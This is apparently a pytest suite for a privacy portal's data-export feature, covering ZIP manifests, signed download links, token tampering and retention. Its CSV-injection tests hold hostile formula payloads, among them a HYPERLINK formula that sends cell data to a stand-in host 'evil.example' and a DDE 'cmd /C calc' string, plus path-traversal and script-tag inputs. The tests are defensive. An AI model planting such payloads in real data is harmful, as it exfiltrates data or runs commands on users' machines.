"""Exports (issue 5): what the ZIP holds and how it is checked, bad choices, the daily limit, and who may
download a package, with which link, and when.

Every export here is built for real: `exports.request_export` files the request and one queue worker run
(`Worker.run_one`) builds the ZIP through `exports.build_for_request`, as in production."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import parse_qs, urlsplit

import jsonschema
import pytest
from sqlalchemy import func, update
from sqlmodel import select

from portal import signing
from portal.catalogue import get_catalogue
from portal.catalogue.display import TimeWords, field_text
from portal.categories import KIND_SPECS, get_registry
from portal.config import get_settings
from portal.db import get_engine, session_scope
from portal.exports import report_html, writers
from portal.exports.csv_safe import SafeWriter, neutralise
from portal.jobs import register_all
from portal.models import ExportPackage, Feedback, PrivacyRequest, RequestStatus
from portal.models.types import utcnow
from portal.queue.worker import Worker
from portal.services.identity import tokens
from portal.services.identity.principal import Principal
from portal.services.identity.tokens import TokenError
from portal.services.rights import export_retention, exports, portal_records
from portal.services.rights.exports import ExportError
from portal.services.rights.rectification import apply_rectification
from tests.utils.environment import reconfigure
from tests.utils.principals import ADA, GRACE, LINUS, principal_for
from tests.utils.queue import customer

REPO_ROOT = Path(__file__).resolve().parent.parent.parent
SCHEMA_PATH = REPO_ROOT / "docs" / "export-schema.json"
ALL_FORMATS = ["json", "csv", "html"]
NOT_FOR_YOU = "This download link is not for you. Sign in as the customer who asked for the export."
NO_SUCH_EXPORT = "There is no such export."


# --- helpers ---------------------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _request_types(portal_env: Path) -> None:
    register_all()


def _all_categories() -> list[str]:
    return list(get_catalogue().categories)


def _kinds(categories: list[str] | None = None) -> list[tuple[str, Any]]:
    catalogue = get_catalogue()
    return [(key, kind) for key in (categories or _all_categories()) for kind in catalogue.categories[key].kinds]


def _portal_csvs() -> set[str]:
    """The CSV file of every section of the portal's own records: in every export with CSV, whatever the categories."""
    return {section.csv_path() for section in portal_records.sections_for(ADA)}


def _request_count() -> int:
    with session_scope() as session:
        return int(session.exec(select(func.count()).select_from(PrivacyRequest)).one())


def _status(request_id: int) -> str:
    with session_scope() as session:
        request = session.get(PrivacyRequest, request_id)
        assert request is not None
        return request.status


def _package(request_id: int) -> ExportPackage:
    with session_scope() as session:
        package = session.exec(select(ExportPackage).where(ExportPackage.request_id == request_id)).first()
        assert package is not None, f"no package for request {request_id}"
        return package


def _partials() -> list[str]:
    directory = get_settings().export_dir
    return sorted(p.name for p in directory.glob(".partial-*")) if directory.exists() else []


def _build(
    principal: Principal, *, categories: list[str] | None = None, formats: list[str] | None = None, key: str = "export"
) -> int:
    """File an export and let one worker run build it; returns the request id of the completed export."""
    request_id = exports.request_export(
        principal, categories=categories or _all_categories(), formats=formats or ALL_FORMATS, idempotency_key=key
    )
    assert Worker(get_engine(), name="t").run_one(), "the worker found the export request"
    assert _status(request_id) == RequestStatus.COMPLETED.value, _status(request_id)
    assert _partials() == [], "no partly written ZIP is left behind after a build"
    return request_id


def _token(link: str) -> str:
    return parse_qs(urlsplit(link).query)["token"][0]


def _download(principal: Principal, request_id: int) -> Path:
    link = exports.download_link(principal, request_id)
    assert link.startswith(f"/exports/{request_id}/download?token=")
    path, name = exports.open_download(principal, request_id, _token(link))
    assert name == f"personal-data-export-{request_id}.zip"
    return path


def _files(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None, "every entry's CRC checks out"
        names = archive.namelist()
        assert len(names) == len(set(names)), "no entry is written twice"
        return {name: archive.read(name) for name in names}


@dataclass
class Export:
    request_id: int
    path: Path
    files: dict[str, bytes]

    def json(self, name: str) -> Any:
        return json.loads(self.files[name].decode("utf-8"))


@pytest.fixture
def ada_export(portal_env: Path) -> Export:
    """Ada's export with every category in every format, downloaded through a signed link."""
    request_id = _build(principal_for(ADA))
    path = _download(principal_for(ADA), request_id)
    return Export(request_id, path, _files(path))


def _schema() -> dict[str, Any]:
    return json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))


def _validator(definition: str = "data") -> jsonschema.protocols.Validator:
    schema = _schema()
    schema["$ref"] = f"#/$defs/{definition}"
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)


def _csv_rows(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def _as_csv_text(value: Any) -> str:
    """The JSON value as the CSV holds it: text a spreadsheet would run as a formula carries a leading apostrophe
    (OWASP's rule for CSV injection; the phone numbers "+44 …" are such text)."""
    return "" if value is None else str(neutralise(value))


# --- what the ZIP holds ------------------------------------------------------------------------------------------


def test_manifest_lists_every_other_file_with_its_checksum_and_size(ada_export: Export) -> None:
    manifest = ada_export.json("manifest.json")
    expected_files = {"data.json", "report.html", *(f"csv/{key}/{kind.key}.csv" for key, kind in _kinds())}
    expected_files |= _portal_csvs()
    assert set(ada_export.files) == expected_files | {"manifest.json", "manifest.sig.json"}
    listed = [entry["path"] for entry in manifest["files"]]
    assert sorted(listed) == sorted(expected_files), "every file but the manifest and its signature, each once"
    signature = json.loads(ada_export.files["manifest.sig.json"])
    public = {key.kid: key.key for key in signing.get_keyring().public_keys()}
    assert signing.verify_bytes(ada_export.files["manifest.json"], signature, public) == signature["kid"]
    for entry in manifest["files"]:
        content = ada_export.files[entry["path"]]
        assert entry["sha256"] == hashlib.sha256(content).hexdigest(), entry["path"]
        assert entry["bytes"] == len(content), entry["path"]
    assert manifest["customer_id"] == ADA and manifest["request_id"] == ada_export.request_id
    assert manifest["categories"] == _all_categories() and manifest["formats"] == ALL_FORMATS
    assert manifest["policy_version"] == get_catalogue().policy_version
    assert manifest["schema"] == "/.well-known/portal-export-schema.json", "a stable address, not a source file"
    _validator("manifest").validate(manifest)
    package = _package(ada_export.request_id)
    whole = ada_export.path.read_bytes()
    assert package.sha256 == hashlib.sha256(whole).hexdigest() and package.size_bytes == len(whole)


def test_manifest_checksums_verify_with_sha256sum(ada_export: Export, tmp_path: Path) -> None:
    """What docs/export-format.md tells customers to do: unpack, then `sha256sum -c` the manifest's list."""
    if shutil.which("sha256sum") is None:
        pytest.skip("sha256sum is not installed")
    with zipfile.ZipFile(ada_export.path) as archive:
        archive.extractall(tmp_path / "unpacked")
    listing = "".join(f"{e['sha256']}  {e['path']}\n" for e in ada_export.json("manifest.json")["files"])
    result = subprocess.run(
        ["sha256sum", "--check", "--strict", "-"],
        input=listing,
        text=True,
        cwd=tmp_path / "unpacked",
        capture_output=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.count(": OK") == len(ada_export.json("manifest.json")["files"])


def test_data_json_validates_against_the_documented_schema(ada_export: Export) -> None:
    data = ada_export.json("data.json")
    validator = _validator("data")
    validator.validate(data)
    assert list(data["categories"]) == _all_categories()
    assert data["generated_at"] == ada_export.json("manifest.json")["generated_at"]

    # The schema can fail: a missing field, an extra field and a local timestamp are each caught.
    record = data["categories"]["usage"]["records"]["usage_event"][0]
    for broken in (
        {k: v for k, v in record.items() if k != "page"},
        {**record, "customer_id": GRACE},
        {**record, "occurred_at": record["occurred_at"].replace("+00:00", "")},
    ):
        data["categories"]["usage"]["records"]["usage_event"][0] = broken
        assert not validator.is_valid(data), broken
    assert _schema()["$schema"] == "https://json-schema.org/draft/2020-12/schema"


def test_schema_describes_every_catalogue_kind_and_field() -> None:
    """docs/export-schema.json is written by hand from the catalogue: a new kind or field must reach it."""
    definitions = _schema()["$defs"]
    categories = definitions["data"]["properties"]["categories"]["properties"]
    assert list(categories) == _all_categories()
    for key, kind in _kinds():
        assert list(categories[key]["properties"]["records"]["properties"]).count(kind.key) == 1
        record = definitions[f"record_{kind.key}"]
        money = "currency" in KIND_SPECS[kind.key].columns.c
        assert record["required"] == ["id", *(f.key for f in kind.fields), *(["currency"] if money else [])]
        assert set(record["properties"]) == set(record["required"]) and record["additionalProperties"] is False
    counts = definitions["manifest"]["properties"]["record_counts"]["properties"]
    assert set(counts) == {kind.key for _, kind in _kinds()}


def test_record_counts_match_the_registry_and_the_tables(ada_export: Export) -> None:
    manifest, data = ada_export.json("manifest.json"), ada_export.json("data.json")
    registry = get_registry()
    expected: dict[str, int] = {}
    with session_scope() as session:
        for _, kind in _kinds():
            expected[kind.key] = registry.count(session, customer_id=ADA, kind_key=kind.key)
            table, owner = KIND_SPECS[kind.key].table, KIND_SPECS[kind.key].owner
            held = session.exec(select(func.count()).select_from(table).where(getattr(table, owner) == ADA)).one()
            assert held == expected[kind.key], f"{kind.key}: the counter matches the table"
    assert manifest["record_counts"] == expected
    assert all(expected[kind.key] > 0 for _, kind in _kinds()), "ada has records of every kind"
    for key, kind in _kinds():
        assert len(data["categories"][key]["records"][kind.key]) == expected[kind.key], kind.key
    assert _package(ada_export.request_id).record_count == sum(expected.values())
    estimate = exports.preview(principal_for(ADA), _all_categories(), ALL_FORMATS)
    assert estimate["records"] == sum(expected.values()) and estimate["estimated_bytes"] > 0


def test_every_csv_round_trips_to_the_json_records(ada_export: Export) -> None:
    data = ada_export.json("data.json")
    for key, kind in _kinds():
        header, rows = _csv_rows(ada_export.files[f"csv/{key}/{kind.key}.csv"])
        columns = ["id", *(f.key for f in kind.fields)]
        assert header == columns, kind.key
        records = data["categories"][key]["records"][kind.key]
        assert len(rows) == len(records), kind.key
        for row, record in zip(rows, records, strict=True):
            assert row == {c: _as_csv_text(record[c]) for c in columns}, kind.key


class _ReportParser(HTMLParser):
    """Checks that every element the report opens is closed in order, and collects its text by element."""

    VOID: ClassVar[set[str]] = {"meta", "br", "hr", "img", "link", "input", "col", "wbr"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.errors: list[str] = []
        self.texts: dict[str, list[str]] = {}
        self.tables: list[list[list[str]]] = []  # per table, the body rows' cell texts
        self.opened: dict[str, int] = {}
        self.closed: dict[str, int] = {}
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.VOID:
            return
        self.stack.append(tag)
        self.opened[tag] = self.opened.get(tag, 0) + 1
        self._text = []
        if tag == "table":
            self.tables.append([])
        elif tag == "tr" and "tbody" in self.stack:
            self.tables[-1].append([])

    def handle_endtag(self, tag: str) -> None:
        if tag in self.VOID:
            return
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
            return
        self.stack.pop()
        self.closed[tag] = self.closed.get(tag, 0) + 1
        text = "".join(self._text)
        self.texts.setdefault(tag, []).append(text)
        if tag == "td":
            self.tables[-1][-1].append(text)
        self._text = []

    def handle_data(self, data: str) -> None:
        self._text.append(data)


def _parse_report(content: bytes) -> _ReportParser:
    parser = _ReportParser()
    parser.feed(content.decode("utf-8"))
    parser.close()
    assert parser.errors == [], parser.errors[:5]
    assert parser.stack == [], f"left open: {parser.stack}"
    assert parser.opened.get("table", 0) == parser.closed.get("table", 0)
    return parser


def test_html_report_renders_every_category_with_its_policy_and_records(ada_export: Export) -> None:
    """For people: every chosen category with what the policy says, a table per kind with the page's labels, times in
    words (UTC, said once), amounts with their currency; then the portal's other records and the completeness part."""
    report = _parse_report(ada_export.files["report.html"])
    data = ada_export.json("data.json")
    catalogue = get_catalogue()
    titles = [catalogue.categories[key].title for key in _all_categories()]
    assert report.texts["h2"] == [*titles, "Other records the portal holds about you", "Is this everything?"]
    for key in _all_categories():
        category = catalogue.categories[key]
        assert category.policy_text in report.texts["dd"], f"{key}: the policy's words are in the report"
    kinds = _kinds()
    assert report.texts["h3"][: len(kinds)] == [kind.title for _, kind in kinds]
    assert "Times are shown in UTC." in ada_export.files["report.html"].decode()
    times = TimeWords()
    for (key, kind), rows in zip(kinds, report.tables, strict=False):  # the kinds' tables come first
        records = data["categories"][key]["records"][kind.key]
        assert len(rows) == len(records), f"{kind.key}: one row per record (ada has no long list)"
        for row, record in zip(rows, records, strict=True):
            expected = [
                field_text(f.display, record[f.key], currency=record.get("currency"), times=times) for f in kind.fields
            ]
            assert row == expected, kind.key
    orders = report.tables[[k.key for _, k in kinds].index("order")]
    assert all(row[3].startswith("€") for row in orders), "amounts carry their currency (ada pays in euros)"
    assert re.search(r"^\d{1,2} [A-Z][a-z]+ \d{4}, \d{2}:\d{2}$", orders[0][1]), orders[0][1]


def test_markup_in_a_value_is_escaped_in_the_report_and_kept_exactly_elsewhere(portal_env: Path) -> None:
    nasty = '<script>alert("x")</script> & <b>bold</b>, "quoted"\nsecond line; comma, semicolon'
    with session_scope() as session:
        feedback = session.exec(select(Feedback).where(Feedback.customer_id == ADA).order_by(Feedback.id)).first()
        assert feedback is not None
        feedback.text = nasty
        session.add(feedback)
    files = _files(_download(principal_for(ADA), _build(principal_for(ADA))))
    html_text = files["report.html"].decode("utf-8")
    assert "<script>" not in html_text and "<b>" not in html_text
    report = _parse_report(files["report.html"])
    assert nasty in report.texts["td"], "the parser reads back exactly the customer's text"
    first = json.loads(files["data.json"])["categories"]["transaction"]["records"]["feedback"][0]
    assert first["text"] == nasty
    _, rows = _csv_rows(files["csv/transaction/feedback.csv"])
    assert rows[0]["text"] == nasty


def test_only_the_chosen_category_and_format_are_written(portal_env: Path) -> None:
    ada = principal_for(ADA)
    request_id = _build(ada, categories=["usage"], formats=["csv"])
    files = _files(_download(ada, request_id))
    assert set(files) == {"csv/usage/usage_event.csv", "manifest.json", "manifest.sig.json", *_portal_csvs()}
    manifest = json.loads(files["manifest.json"])
    _validator("manifest").validate(manifest)
    assert manifest["categories"] == ["usage"] and manifest["formats"] == ["csv"]
    assert manifest["record_counts"] == {"usage_event": 40}
    sections = [section.csv_path() for section in portal_records.sections_for(ADA)]
    assert [e["path"] for e in manifest["files"]] == ["csv/usage/usage_event.csv", *sections]
    _, rows = _csv_rows(files["csv/usage/usage_event.csv"])
    assert len(rows) == 40


def test_choices_are_kept_in_catalogue_order_without_repeats(portal_env: Path) -> None:
    ada = principal_for(ADA)
    request_id = _build(ada, categories=["usage", "identity", "usage"], formats=["html", "json", "html"])
    manifest = json.loads(_files(_download(ada, request_id))["manifest.json"])
    assert manifest["categories"] == ["identity", "usage"] and manifest["formats"] == ["json", "html"]


# --- bad input ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("categories", "formats", "message"),
    [
        ([], ["json"], "Choose at least one category."),
        (["usage"], [], "Choose at least one format."),
        (["usage"], ["pdf"], "Unknown format: pdf. Choose from JSON, CSV and HTML."),
        (["usage"], ["json", "xml"], "Unknown format: xml. Choose from JSON, CSV and HTML."),
        (["nonsense"], ["json"], "Unknown category: nonsense."),
        (["usage", "../../etc"], ["csv"], "Unknown category: ../../etc."),
    ],
)
def test_a_bad_choice_is_refused_with_a_clear_message_and_files_nothing(
    portal_env: Path, categories: list[str], formats: list[str], message: str
) -> None:
    ada = principal_for(ADA)
    before = _request_count()
    with pytest.raises(ExportError) as refused:
        exports.request_export(ada, categories=categories, formats=formats, idempotency_key="bad")
    assert str(refused.value) == message
    with pytest.raises(ExportError, match=message.split(".")[0]):
        exports.preview(ada, categories, formats)
    assert _request_count() == before, "no request was filed"


def test_the_daily_limit_refuses_new_exports_but_answers_a_retried_one(
    portal_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PORTAL_EXPORT_LIMIT_PER_DAY", "2")  # monkeypatch: the variable is gone after the test
    reconfigure(PORTAL_EXPORT_LIMIT_PER_DAY="2")
    assert get_settings().export_limit_per_day == 2
    ada = principal_for(ADA)
    choice: dict[str, Any] = {"categories": ["identity"], "formats": ["json"]}
    first = exports.request_export(ada, idempotency_key="one", **choice)
    assert exports.request_export(ada, idempotency_key="one", **choice) == first, "a double click files once"
    second = exports.request_export(ada, idempotency_key="two", **choice)
    assert _request_count() == 2
    with pytest.raises(ExportError) as refused:
        exports.request_export(ada, idempotency_key="three", **choice)
    assert "2 exports a day" in str(refused.value) and "please try again after " in str(refused.value)
    assert _request_count() == 2, "the refused request was not filed"
    assert exports.request_export(ada, idempotency_key="two", **choice) == second, "a retry is not a new export"
    assert exports.request_export(principal_for(GRACE), idempotency_key="three", **choice), "per customer"


# --- downloads ------------------------------------------------------------------------------------------------------


def test_a_download_is_refused_while_the_export_is_still_being_built(portal_env: Path) -> None:
    ada = principal_for(ADA)
    request_id = exports.request_export(ada, categories=["identity"], formats=["json"], idempotency_key="k")
    assert _status(request_id) == RequestStatus.QUEUED.value
    assert exports.list_exports(ada)[0].status == RequestStatus.QUEUED.value
    with pytest.raises(ExportError, match="still being built"):
        exports.download_link(ada, request_id)
    worker = Worker(get_engine(), name="t")
    assert worker.claim() == request_id
    assert _status(request_id) == RequestStatus.PROCESSING.value
    with pytest.raises(ExportError, match="still being built"):
        exports.download_link(ada, request_id)
    worker.process(request_id)
    assert _download(ada, request_id).is_file()


def test_a_zip_is_never_visible_under_its_final_name_while_it_is_written(
    portal_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Half way through the build (inside the HTML writer) the directory holds only the `.partial-` file
    and the download is refused; the package appears complete or not at all."""
    ada = principal_for(ADA)
    request_id = exports.request_export(ada, categories=_all_categories(), formats=ALL_FORMATS, idempotency_key="k")
    seen: list[tuple[list[str], str]] = []
    original: Callable[..., int] = report_html.kind_table

    def observing(*args: Any, **kwargs: Any) -> int:
        if not seen:
            names = sorted(p.name for p in get_settings().export_dir.iterdir())
            try:
                exports.download_link(ada, request_id)
                refusal = "download allowed"
            except ExportError as exc:
                refusal = str(exc)
            seen.append((names, refusal))
        return original(*args, **kwargs)

    monkeypatch.setattr(report_html, "kind_table", observing)
    assert Worker(get_engine(), name="t").run_one()
    assert _status(request_id) == RequestStatus.COMPLETED.value
    names, refusal = seen[0]
    assert len(names) == 1 and names[0].startswith(".partial-export-"), names
    assert "still being built" in refusal
    final = _download(ada, request_id)
    assert sorted(p.name for p in final.parent.iterdir()) == [final.name]


def test_the_right_customer_gets_the_complete_zip(portal_env: Path) -> None:
    ada = principal_for(ADA)
    request_id = _build(ada)
    path = _download(ada, request_id)
    assert path.parent == get_settings().export_dir and path.is_file() and zipfile.is_zipfile(path)
    assert not path.name.startswith(".partial-")
    package = _package(request_id)
    assert path.name == package.file_name and path.stat().st_size == package.size_bytes
    assert _files(path)["manifest.json"]
    assert exports.list_exports(ada)[0].package.file_name == path.name


def test_another_customer_is_refused_by_id_and_by_copied_link(portal_env: Path) -> None:
    ada, grace = principal_for(ADA), principal_for(GRACE)
    ada_request = _build(ada, key="ada")
    ada_token = _token(exports.download_link(ada, ada_request))
    grace_request = _build(grace, categories=["identity"], formats=["json"], key="grace")
    grace_token = _token(exports.download_link(grace, grace_request))
    missing = 999_999

    # By id: the same answer whether the export exists (someone else's) or not, so ids reveal nothing.
    for request_id in (ada_request, missing):
        with pytest.raises(ExportError) as refused:
            exports.download_link(grace, request_id)
        assert str(refused.value) == NO_SUCH_EXPORT
        with pytest.raises(ExportError) as refused:
            exports.delete_export(grace, request_id)
        assert str(refused.value) == NO_SUCH_EXPORT

    # By link: ada's link copied to grace, grace's own token pointed at ada's export, no sign-in at all.
    for principal, request_id, token in (
        (grace, ada_request, ada_token),
        (grace, missing, ada_token),
        (grace, ada_request, grace_token),
        (None, ada_request, ada_token),
        (principal_for(LINUS), ada_request, ada_token),
    ):
        with pytest.raises(ExportError) as refused:
            exports.open_download(principal, request_id, token)
        assert str(refused.value) == NOT_FOR_YOU

    assert _download(ada, ada_request).is_file(), "ada's export is untouched by the attempts"
    assert _download(grace, grace_request).is_file()


def _forged(token: str, **changes: Any) -> str:
    payload, timestamp, signature = token.split(".")
    data = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    encoded = base64.urlsafe_b64encode(json.dumps({**data, **changes}, separators=(",", ":")).encode())
    return f"{encoded.decode().rstrip('=')}.{timestamp}.{signature}"


def test_a_tampered_or_foreign_token_is_refused(portal_env: Path) -> None:
    ada, grace = principal_for(ADA), principal_for(GRACE)
    request_id = _build(ada)
    token = _token(exports.download_link(ada, request_id))
    assert tokens.read(tokens.Purpose.EXPORT_DOWNLOAD, token)["customer_id"] == ADA
    payload, timestamp, signature = token.split(".")
    flipped = signature[0].swapcase() if signature[0].isalpha() else ("A" if signature[0] != "A" else "B")
    bad_signature = f"{payload}.{timestamp}.{flipped}{signature[1:]}"
    other_purpose = tokens.sign(tokens.Purpose.EMAIL_CHANGE, {"customer_id": ADA, "request_id": request_id})
    for candidate in (
        bad_signature,
        _forged(token, customer_id=GRACE),
        _forged(token, request_id=request_id + 1),
        other_purpose,
        token[:-3],
        "",
        "x" * 9000,
    ):
        with pytest.raises(TokenError) as refused:
            tokens.read(tokens.Purpose.EXPORT_DOWNLOAD, candidate)
        assert refused.value.reason == "invalid", candidate
    with pytest.raises(TokenError) as refused:
        exports.open_download(grace, request_id, _forged(token, customer_id=GRACE))
    assert refused.value.reason == "invalid" and "altered" in str(refused.value)
    with pytest.raises(TokenError):
        exports.open_download(ada, request_id, bad_signature)


def test_a_link_expires_after_the_configured_minutes(portal_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from itsdangerous.timed import TimestampSigner

    ada = principal_for(ADA)
    request_id = _build(ada)
    token = _token(exports.download_link(ada, request_id))
    with pytest.raises(TokenError) as refused:
        tokens.read(tokens.Purpose.EXPORT_DOWNLOAD, token, max_age=-1)
    assert refused.value.reason == "expired"

    real = TimestampSigner.get_timestamp
    minutes = get_settings().export_link_minutes
    assert minutes == 60
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: real(self) + (minutes - 1) * 60)
    assert exports.open_download(ada, request_id, token)[0].is_file(), "still valid a minute before the end"
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: real(self) + (minutes + 1) * 60)
    with pytest.raises(TokenError) as refused:
        exports.open_download(ada, request_id, token)
    assert refused.value.reason == "expired" and "expired" in str(refused.value)
    monkeypatch.setattr(TimestampSigner, "get_timestamp", real)
    fresh = _token(exports.download_link(ada, request_id))
    assert exports.open_download(ada, request_id, fresh)[0].is_file(), "a new link works again"


def test_a_deleted_export_is_gone_and_cannot_be_downloaded(portal_env: Path) -> None:
    ada = principal_for(ADA)
    request_id = _build(ada)
    token = _token(exports.download_link(ada, request_id))
    path = _download(ada, request_id)
    exports.delete_export(ada, request_id)
    assert not path.exists()
    assert _package(request_id).deleted_at is not None
    with pytest.raises(ExportError, match="has been deleted"):
        exports.download_link(ada, request_id)
    with pytest.raises(ExportError, match="has been deleted"):
        exports.open_download(ada, request_id, token)
    exports.delete_export(ada, request_id)  # deleting twice is harmless


def test_purge_removes_packages_past_retention_and_keeps_fresh_ones(portal_env: Path) -> None:
    ada = principal_for(ADA)
    old, fresh = _build(ada, key="old"), _build(ada, key="fresh")
    old_path, fresh_path = _download(ada, old), _download(ada, fresh)
    package = _package(fresh)
    assert package.ready_at is not None and package.expires_at is not None
    retention = package.expires_at - package.ready_at
    assert abs(retention - timedelta(days=get_settings().export_retention_days)) < timedelta(seconds=5)
    with session_scope() as session:
        session.exec(
            update(ExportPackage)
            .where(ExportPackage.request_id == old)  # type: ignore[call-overload]
            .values(expires_at=utcnow() - timedelta(minutes=1))
        )
    assert export_retention.purge_expired() == 1
    assert not old_path.exists() and fresh_path.is_file()
    assert _package(old).deleted_at is not None and _package(fresh).deleted_at is None
    with pytest.raises(ExportError, match="has been deleted"):
        exports.download_link(ada, old)
    assert _download(ada, fresh) == fresh_path
    assert export_retention.purge_expired() == 0, "a second run finds nothing"


def test_a_package_whose_file_is_missing_gives_a_clear_message(portal_env: Path) -> None:
    ada = principal_for(ADA)
    request_id = _build(ada)
    token = _token(exports.download_link(ada, request_id))
    _download(ada, request_id).unlink()
    with pytest.raises(ExportError) as refused:
        exports.open_download(ada, request_id, token)
    assert str(refused.value) == "This export is no longer available. Please ask for a new one."


def test_no_partial_file_remains_after_builds_of_every_shape(portal_env: Path) -> None:
    ada, linus = principal_for(ADA), principal_for(LINUS)
    for index, formats in enumerate((["json"], ["csv"], ["html"], ["json", "html"], ALL_FORMATS)):
        _build(ada if index % 2 else linus, categories=["identity", "usage"], formats=formats, key=f"k{index}")
    names = [p.name for p in get_settings().export_dir.iterdir()]
    assert len(names) == 5 and not [n for n in names if n.startswith(".")], names


# --- known bugs (these fail until portal/ is fixed) -------------------------------------------------------------


def test_bug_failed_build_leaves_partial_zip_with_personal_data_behind(
    portal_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """BUG (portal/exports/builder.py `build`): when writing fails half way (disk full, a database error, a
    crash), the `.partial-export-*.zip` is never removed. It holds the customer's data, no package row points
    at it, so neither delete_export, purge_expired nor purge_customer (run by an erasure) ever deletes it,
    and every retry leaves another one. Expected: the builder removes its temporary file when it fails."""
    ada = principal_for(ADA)
    request_id = exports.request_export(ada, categories=_all_categories(), formats=ALL_FORMATS, idempotency_key="k")
    original: Callable[..., int] = writers.csv_kind

    def failing(out: writers.HashingWriter, kind: Any, batches: Any) -> int:
        if kind.key == "usage_event":
            original(out, kind, batches)
            raise OSError(28, "No space left on device")
        return original(out, kind, batches)

    monkeypatch.setattr(writers, "csv_kind", failing)
    assert Worker(get_engine(), name="t").run_one()
    assert _status(request_id) == RequestStatus.FAILED.value, "the attempt failed and will be retried"
    assert _partials() == [], f"a failed build left {_partials()} in the export directory"


def test_bug_lease_is_extended_only_while_the_first_format_is_written(
    portal_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """BUG (portal/exports/builder.py `build`): the worker's lease (30 s) is extended only through progress
    ticks, and `batches(k, first_format == ...)` ticks only while the first format is written. The CSV and
    HTML passes re-read every record without extending the lease: bench/export.py measured 63 s without an
    extension for 1,000,000 events in json+csv+html. Meanwhile a second worker may claim the export as
    abandoned, build it again, and the first worker's completion is discarded (its ZIP left orphaned).
    Expected: the lease is extended during every format's pass."""
    from portal.exports import builder

    monkeypatch.setattr(builder, "PROGRESS_EVERY", 10)
    phase = ["start"]
    extended: set[str] = set()
    for module, name, label in (
        (writers, "json_kind", "json"),
        (writers, "csv_kind", "csv"),
        (report_html, "kind_table", "html"),
    ):
        original_writer = getattr(module, name)

        def in_phase(*args: Any, _label: str = label, _original: Any = original_writer, **kwargs: Any) -> Any:
            phase[0] = _label
            try:
                return _original(*args, **kwargs)
            finally:
                phase[0] = "between passes"

        monkeypatch.setattr(module, name, in_phase)
    original_progress, original_heartbeat = Worker._progress, Worker.heartbeat

    def progress(self: Worker, request_id: int, done: int, total: int) -> None:
        extended.add(phase[0])
        original_progress(self, request_id, done, total)

    def heartbeat(self: Worker, request_id: int) -> None:
        extended.add(phase[0])
        original_heartbeat(self, request_id)

    monkeypatch.setattr(Worker, "_progress", progress)
    monkeypatch.setattr(Worker, "heartbeat", heartbeat)
    _build(principal_for(ADA))
    assert {"json", "csv", "html"} <= extended, f"the lease was extended only while writing {sorted(extended)}"


# --- CSV injection (OWASP) ---------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("planted", FORMULAS)
def test_formulas_planted_in_a_record_reach_the_csv_neutralised(portal_env: Path, planted: str) -> None:
    """An address typed as a formula (or planted by an agent under a "help" grant) must not run in a spreadsheet:
    the CSV cell starts with an apostrophe; the JSON keeps the value exactly."""
    with session_scope() as session:
        apply_rectification(session, customer_id=ADA, changes={"street": planted}, actor=customer(ADA), request_id=None)
    request_id = _build(principal_for(ADA))
    files = _files(_download(principal_for(ADA), request_id))
    _, rows = _csv_rows(files["csv/identity/identity_profile.csv"])
    assert rows[0]["street"] == "'" + planted
    data = json.loads(files["data.json"])
    assert data["categories"]["identity"]["records"]["identity_profile"][0]["street"] == planted


def test_safe_writer_leaves_plain_text_and_numbers_alone() -> None:
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(["London", -5, 3.5, None, "a=b", "=1", "@x"])
    writer.writerows([["+44 20", "-"], ["ok", "\tx"]])
    assert buffer.getvalue().splitlines() == ["London,-5,3.5,,a=b,'=1,'@x", "'+44 20,'-", "ok,'\tx"]
